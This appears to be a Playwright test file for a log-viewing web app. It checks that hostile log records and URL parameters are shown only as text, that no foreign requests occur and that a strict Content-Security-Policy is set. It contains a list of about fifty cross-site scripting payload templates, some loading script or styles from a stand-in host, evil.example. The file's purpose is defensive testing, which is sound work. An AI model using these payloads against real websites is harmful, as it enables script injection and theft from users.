"""Contents of records are hostile: nothing of them runs, deceives or breaks the page."""

from urllib.parse import urlencode

import pytest
from playwright.sync_api import expect

from test.servers.chronologer import Server
from test.ui.conftest import signed_in
from test.ui.corpus import NOW, send

RUN = 'window.hacked=1'
TEMPLATES = [
    '<script>{}</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror={}>',
    '<img src="x" onerror="{}">',
    "<img src='x' onerror='{}'>",
    '<svg onload={}>',
    '<svg><script>{}</script></svg>',
    '<svg><animate onbegin={} attributeName=x>',
    '<body onload={}>',
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<a href="javascript:{}">x</a>',
    '<details open ontoggle={}>',
    '<input autofocus onfocus={}>',
    '<video><source onerror={}></video>',
    '<math><mtext><script>{}</script></mtext></math>',
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    '<template><script>{}</script></template>',
    '<button onclick={} autofocus>x</button>',
    '<audio src onerror={}>',
    '<select onfocus={} autofocus>',
    '"><script>{}</script>',
    "'><script>{}</script>",
    '</textarea><script>{}</script>',
    '</title><script>{}</script>',
    '</pre><script>{}</script>',
    '<!--><script>{}</script>-->',
    '<![CDATA[<script>{}</script>]]>',
    'javascript:{}',
    'data:text/html,<script>{}</script>',
    '{{{{constructor.constructor("{}")()}}}}',
    '${{{}}}',
    '`;{};`',
    '");{};//',
    "');{};//",
    '\\u003cscript\\u003e{}\\u003c/script\\u003e',
    '&lt;script&gt;{}&lt;/script&gt;',
    '&#60;script&#62;{}&#60;/script&#62;',
    '<scr<script>ipt>{}</scr</script>ipt>',
    '<ScRiPt>{}</sCrIpT>',
    '<script\n>{}</script\n>',
    '<script\t>{}</script>',
    '<img\nsrc=x\nonerror={}>',
    '<x onclick={} tabindex=1 autofocus onfocus={}>',
    '<marquee onstart={}>',
    '<slot onslotchange={}>',
    '<dialog open onclose={}>',
]
VECTORS = [
    *{template.format(*[code] * 3): 0 for template in TEMPLATES for code in (RUN, f'top.{RUN}')}
]


def hostile(number, vector):
    """A record that has it everywhere."""
    return {
        'name': vector, 'levelno': 40, 'created': NOW.timestamp() - number, 'msg': vector,
        'exc_text': f'Traceback (most recent call last):\n  File "{vector}", line 1, in {vector}\n'
        f'    {vector}\nE: {vector}',
        'stack_info': vector, vector: vector, 'nested': {vector: [vector, {vector: None}]},
    }  # fmt: skip


@pytest.fixture(scope='module')
def infested(tmp_path_factory):
    """A server with a record for each of the vectors."""
    with Server(tmp_path_factory.mktemp('hostile')) as server:
        send(server, [hostile(number, vector) for number, vector in enumerate(VECTORS)])
        yield server


def test_a_hundred_vectors(page, infested):
    """In lists, details, facets, columns and titles: nothing runs, all is there as text."""
    assert 100 == len(VECTORS)
    log = signed_in(page, infested)
    foreign, dialogs = [], []
    page.on('request', lambda request: infested.host in request.url or foreign.append(request.url))
    page.on('dialog', lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    log.open('range=all&col=data.nested', count=100)
    log.row_at(0).wait_for()
    page.keyboard.press('Enter')
    for vector in VECTORS:
        expect(log.detail.locator('.whole-message')).to_have_text(vector, use_inner_text=False)
        for part in ('.name', '.traceback', '.tree'):
            assert vector in log.detail.locator(part).first.text_content()
        page.keyboard.press('j')
    assert [] == foreign
    assert [] == dialogs
    assert page.evaluate('window.hacked === undefined')
    assert f'http://{infested.host}/' == page.url.partition('?')[0]


def test_hostile_addresses(page, infested, tolerated):
    """What comes by a link is no more than text either; the server says what is wrong with it."""
    tolerated.append('Failed to load resource: the server responded with a status of 40[04]')
    log = signed_in(page, infested)
    for vector in VECTORS[::9]:
        names = ('q', 'f', 'name', 'level', 'col', 'tz', 'order', 'id', 'scope')
        log.open(urlencode({'range': 'all', **dict.fromkeys(names, vector)}))
        expect(log.problem).not_to_be_empty()
    assert page.evaluate('window.hacked === undefined')


@pytest.mark.parametrize('wrap', [False, True])
def test_odd_texts_keep_the_layout(own_log, wrap):
    """A line of a megabyte, ten thousand fields, directions, colours, and what is unseen."""
    page, server = own_log.page, own_log.server
    now = NOW.timestamp()
    send(
        server,
        [
            {'name': 'x' * 5000, 'levelno': 20, 'created': now - 1, 'msg': 'A' * 2**20},
            {'name': 'many', 'levelno': 20, 'created': now - 2, 'msg': 'fields',
             **{f'field{n}': n for n in range(9990)}},
            {'name': 'odd', 'levelno': 20, 'created': now - 3,
             'msg': 'user\u202egnp.exe \x1b[31mred\x1b[0m zero\u200bwidth \x07'},
        ],
    )  # fmt: skip
    page.add_init_script(f"localStorage.setItem('chronologer.wrap', '{str(wrap).lower()}')")
    own_log.open('range=all', count=3)
    expect(own_log.row(3)).to_contain_text('user⟨202E⟩gnp.exe red zero⟨200B⟩width ⟨0007⟩')
    for number, text in (
        (1, 'Show all 1,048,576 characters'),
        (2, '9,790 more entries'),
        (3, 'odd'),
    ):
        own_log.open(f'range=all&id={number}')
        expect(own_log.detail).to_contain_text(text)
        assert page.evaluate('document.documentElement.scrollWidth <= innerWidth')
    own_log.open('range=all&id=1')
    page.get_by_role('button', name='Show all 1,048,576 characters').click()
    assert 2**20 == len(own_log.detail.locator('.whole-message').text_content())


def test_the_page_may_run_nothing_but_its_files(page, infested):
    """By its Content-Security-Policy."""
    answer = page.goto(f'http://{infested.host}/')
    policy = answer.headers['content-security-policy']
    assert "default-src 'self'" in policy
    assert 'unsafe' not in policy
